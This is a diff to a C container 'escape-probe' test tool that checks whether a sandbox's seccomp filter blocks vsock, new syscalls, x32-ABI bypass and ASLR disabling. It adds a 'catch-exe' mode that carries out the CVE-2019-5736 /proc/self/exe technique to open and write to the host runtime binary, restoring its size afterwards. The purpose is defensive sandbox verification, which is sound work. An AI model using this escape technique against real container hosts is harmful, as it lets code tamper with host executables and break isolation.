@@ -12,13 +12,18 @@
 #include <sched.h>
 #include <stdio.h>
 #include <string.h>
+#include <stdlib.h>
 #include <sys/mount.h>
+#include <sys/personality.h>
+#include <sys/socket.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/statvfs.h>
 #include <sys/swap.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 struct result {
@@ -191,6 +196,83 @@ static struct result p_open_by_handle(void) { return by_errno(syscall(SYS_open_b
 static struct result p_bpf(void) { return by_errno(syscall(SYS_bpf, -1, NULL, 0), EINVAL, EFAULT); }
 static struct result p_keyctl(void) { return by_errno(syscall(SYS_keyctl, -1, 0, 0, 0, 0), EOPNOTSUPP, EINVAL); }
 
+
+/* AF_VSOCK (40) reaches the hypervisor's host from a VM: seccomp refuses the socket with
+ * EPERM before the kernel sees it. EAFNOSUPPORT is the kernel's own answer (and it may
+ * have tried to load the module): the call got through. */
+static struct result p_vsock(void)
+{
+	int fd = socket(40, SOCK_STREAM, 0);
+	if (fd >= 0) {
+		close(fd);
+		return allowed("created");
+	}
+	if (errno == EPERM)
+		return blocked(errno);
+	return allowed(strerrorname_np(errno));
+}
+
+/* Calls a syscall the kernel implements, with arguments it rejects (or that do nothing):
+ * EPERM (not on the list) or ENOSYS (newer than the list) can only come from the filter
+ * when the kernel has the call; run unconfined, the same numbers report ALLOWED, which is
+ * how the tests know the kernel has them. */
+static struct result by_numbers(const long *nrs, size_t n)
+{
+	static char note[256];
+	note[0] = 0;
+	int all = 1;
+	for (size_t i = 0; i < n; i++) {
+		long r = syscall(nrs[i], -1L, 0L, 0L, 0L, 0L, 0L);
+		int e = r < 0 ? errno : 0;
+		size_t len = strlen(note);
+		snprintf(note + len, sizeof note - len, "%s%ld:%s", len ? "," : "", nrs[i],
+			 e ? strerrorname_np(e) : "ok");
+		if (e != EPERM && e != ENOSYS)
+			all = 0;
+	}
+	struct result res = all ? blocked(EPERM) : allowed(note);
+	if (all)
+		res.reason = "REFUSED", res.note = note;
+	return res;
+}
+
+/* lsm_get_self_attr, lsm_set_self_attr, lsm_list_modules (Linux 6.8, same number on every
+ * ABI since 5.1's unified table) */
+static struct result p_lsm(void)
+{
+	static const long nrs[] = { 459, 460, 461 };
+	return by_numbers(nrs, 3);
+}
+
+/* Newer than the allowlist: mseal, the *xattrat family, open_tree_attr, file_getattr,
+ * file_setattr, listns (6.10-6.18), and 1000, which no kernel has. */
+static struct result p_new_syscall(void)
+{
+	static const long nrs[] = { 462, 463, 464, 465, 466, 467, 468, 469, 470, 1000 };
+	return by_numbers(nrs, sizeof nrs / sizeof *nrs);
+}
+
+/* The x32 ABI (the x86_64 number with bit 30 set) must be filtered like x86_64, or it would
+ * be a way around every rule. lsm_list_modules through it: EPERM is the filter's (the
+ * kernel says ENOSYS when built without x32, EFAULT with it). */
+static struct result p_x32(void)
+{
+	long r = syscall(0x40000000L | 461, 0L, 0L, 0L);
+	if (r < 0 && errno == EPERM)
+		return blocked(errno);
+	return allowed(r < 0 ? strerrorname_np(errno) : "ok");
+}
+
+/* ADDR_NO_RANDOMIZE turns off ASLR for what this process execs next. */
+static struct result p_personality(void)
+{
+	int r = personality(ADDR_NO_RANDOMIZE);
+	if (r < 0)
+		return blocked(errno);
+	personality(r);
+	return allowed(NULL);
+}
+
 static const struct { const char *name; struct result (*fn)(void); } CHECKS[] = {
 	{ "mount", p_mount },
 	{ "umount", p_umount },
@@ -213,6 +295,11 @@ static const struct { const char *name; struct result (*fn)(void); } CHECKS[] = 
 	{ "open_by_handle_at", p_open_by_handle },
 	{ "bpf", p_bpf },
 	{ "keyctl", p_keyctl },
+	{ "vsock", p_vsock },
+	{ "lsm", p_lsm },
+	{ "new-syscall", p_new_syscall },
+	{ "personality", p_personality },
+	{ "x32", p_x32 },
 };
 #define NCHECKS (sizeof CHECKS / sizeof *CHECKS)
 
@@ -227,10 +314,113 @@ static int run(size_t i)
 	return r.allowed;
 }
 
+/* `catch-exe READY DONE`: the attacker's half of CVE-2019-5736 through a
+ * `#!/proc/self/exe` script. The runtime's exec helper runs in the container's pid
+ * namespace and execs the script; the kernel then runs the interpreter /proc/self/exe,
+ * the helper's own binary (the host's paas-shim), as a container process anyone in the
+ * container may open. This spins on the next pids and takes an O_PATH fd on the first
+ * executable that is not from the container's root, then reopens it for writing and
+ * appends one byte, restoring the size after. While some process runs the file the
+ * kernel refuses writers (ETXTBSY; the container's own init is the same paas-shim), so
+ * after 2 s of that the verdict is the mount's: a writable mount means the file is
+ * writable as soon as nothing runs it (ALLOWED), a read-only one never (BLOCKED EROFS).
+ * Prints `BLOCKED catch-exe <errno> <path>` or `ALLOWED catch-exe <path>`; `MISSED` (exit
+ * 3) when nothing foreign ran before DONE appeared (or 20 s). Touches READY once
+ * spinning, so the test knows when to start the exec. */
+static double now(void)
+{
+	struct timespec t;
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return t.tv_sec + t.tv_nsec / 1e9;
+}
+
+static int catch_exe(const char *ready, const char *done)
+{
+	struct stat root;
+	if (stat("/", &root) < 0)
+		return perror("stat /"), 2;
+	pid_t last = fork();
+	if (last < 0)
+		return perror("fork"), 2;
+	if (last == 0)
+		_exit(0);
+	waitpid(last, NULL, 0);
+	int r = open(ready, O_WRONLY | O_CREAT, 0644);
+	if (r < 0)
+		return perror(ready), 2;
+	close(r);
+
+	int fd = -1;
+	pid_t pid = 0;
+	double end = now() + 20;
+	for (unsigned i = 0; fd < 0 && now() < end; i++) {
+		if (i % 256 == 0 && access(done, F_OK) == 0)
+			break;
+		for (pid = last + 1; pid <= last + 48; pid++) {
+			char path[64];
+			snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
+			int f = open(path, O_PATH | O_CLOEXEC);
+			struct stat st;
+			if (f < 0)
+				continue;
+			if (fstat(f, &st) == 0 && st.st_dev != root.st_dev) {
+				fd = f;
+				break;
+			}
+			close(f);
+		}
+	}
+	if (fd < 0) {
+		puts("MISSED catch-exe");
+		return 3;
+	}
+	char self[64], target[512] = "?";
+	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+	ssize_t n = readlink(self, target, sizeof target - 1);
+	target[n > 0 ? n : 1] = 0;
+
+	int w = -1, e = ETXTBSY;
+	for (double stop = now() + 2; w < 0 && e == ETXTBSY && now() < stop;) {
+		w = open(self, O_WRONLY | O_APPEND);
+		e = w < 0 ? errno : 0;
+		if (w < 0 && e == ETXTBSY)
+			usleep(1000);
+	}
+	if (w >= 0) {
+		struct stat st;
+		fstat(w, &st);
+		if (write(w, "x", 1) == 1) {
+			/* proof enough: put the host's file back as it was */
+			if (ftruncate(w, st.st_size) < 0)
+				perror("ftruncate");
+			printf("ALLOWED catch-exe %s (pid %d) written\n", target, (int)pid);
+			return 1;
+		}
+		e = errno;
+		close(w);
+		printf("BLOCKED catch-exe %s %s opened, write refused (pid %d)\n",
+		       strerrorname_np(e), target, (int)pid);
+		return 0;
+	}
+	struct statvfs vfs;
+	if (e == ETXTBSY && fstatvfs(fd, &vfs) == 0) {
+		if (!(vfs.f_flag & ST_RDONLY)) {
+			printf("ALLOWED catch-exe %s (pid %d) on a writable mount, busy for now\n",
+			       target, (int)pid);
+			return 1;
+		}
+		e = EROFS;
+	}
+	printf("BLOCKED catch-exe %s %s (pid %d)\n", strerrorname_np(e), target, (int)pid);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
+	if (argc == 4 && !strcmp(argv[1], "catch-exe"))
+		return catch_exe(argv[2], argv[3]);
 	if (argc != 2) {
-		fprintf(stderr, "usage: escape-probe CHECK|all|list\n");
+		fprintf(stderr, "usage: escape-probe CHECK|all|list | catch-exe READY DONE\n");
 		return 2;
 	}
 	int any = 0;
